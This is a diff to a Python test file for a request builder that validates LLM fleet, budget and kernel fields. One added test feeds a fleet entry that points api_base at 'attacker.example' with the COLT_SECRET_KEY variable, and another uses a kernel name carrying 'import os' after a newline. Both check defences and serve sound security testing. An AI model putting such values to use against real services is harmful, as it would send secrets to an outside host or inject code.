@@ -40,7 +40,7 @@ def test_a_document_becomes_a_request_and_round_trips():
     assert request.settings == SearchSettings(branching=3, lam=0.5)
     assert request.timing.number == 1 and request.timing.repeat == 5
     assert request.fleet.names == ["small", "large"]
-    assert build_request(request.to_dict()) == request  # the stored form reads back the same
+    assert build_request(request.to_dict(), stored=True) == request  # the stored form reads back the same
 
 
 def test_every_bad_value_is_named_at_once():
@@ -113,7 +113,7 @@ def test_the_stop_rule_names_the_first_budget_spent():
     "doc, field",
     [
         ({"strategy": ["colt"]}, "strategy"),
-        ({"strategy": "colt", "fleet": [1, 2]}, "models"),
+        ({"strategy": "colt", "fleet": [1, 2]}, "fleet"),
         ({"strategy": "colt", "models": "small"}, "models"),
         ({"timing": {"check": "no"}}, "timing.check"),
         ({"budget": [1]}, "budget"),
@@ -124,3 +124,33 @@ def test_documents_of_the_wrong_shape_are_request_errors(doc, field):
     with pytest.raises(RequestError) as err:
         build_request({"kernel": "gemm-128", **doc}, offered_fleet=FLEET)
     assert field in err.value.errors
+
+
+def test_a_user_names_models_and_never_defines_them():
+    """An endpoint, a price or a key variable comes from the server's fleet, never from a user:
+    otherwise a request could send COLT_SECRET_KEY to an endpoint of its own."""
+    evil = [{"name": "x", "model": "openai/x", "params": 1e9, "api_base": "https://attacker.example/v1",
+             "api_key_env": "COLT_SECRET_KEY"}]  # fmt: skip
+    with pytest.raises(RequestError) as err:
+        build_request({"kernel": "gemm-128", "strategy": "single-llm", "fleet": evil}, offered_fleet=FLEET)
+    assert err.value.errors == {"fleet": "unknown request field 'fleet'"}
+    stored = build_request({"kernel": "gemm-128", "strategy": "single-llm", "fleet": evil}, stored=True)
+    assert stored.fleet.names == ["x"]  # what this code stored itself reads back
+
+
+def test_stored_values_outside_todays_limits_still_read_back():
+    doc = {"kernel": "gemm-128", "budget": {"trials": 12, "wall_s": 0.5}, "settings": {"branching": 40, "seed": -1}}
+    request = build_request(doc, stored=True)
+    assert request.budget.wall_s == 0.5 and request.settings.branching == 40 and request.settings.seed == -1
+
+
+@pytest.mark.parametrize("value", [10**400, -(10**400), float("inf")])
+def test_numbers_of_any_size_are_messages_not_crashes(value):
+    with pytest.raises(RequestError) as err:
+        build_request({"kernel": "gemm-128", "budget": {"trials": value, "usd": value}})
+    assert set(err.value.errors) == {"budget.trials", "budget.usd"}
+
+
+def test_a_kernel_name_is_plain_text():
+    with pytest.raises(RequestError, match="a kernel name is"):
+        build_request({"kernel": {"op": "gemm", "shape": {"M": 8, "N": 8, "K": 8}, "name": "x\nimport os"}})
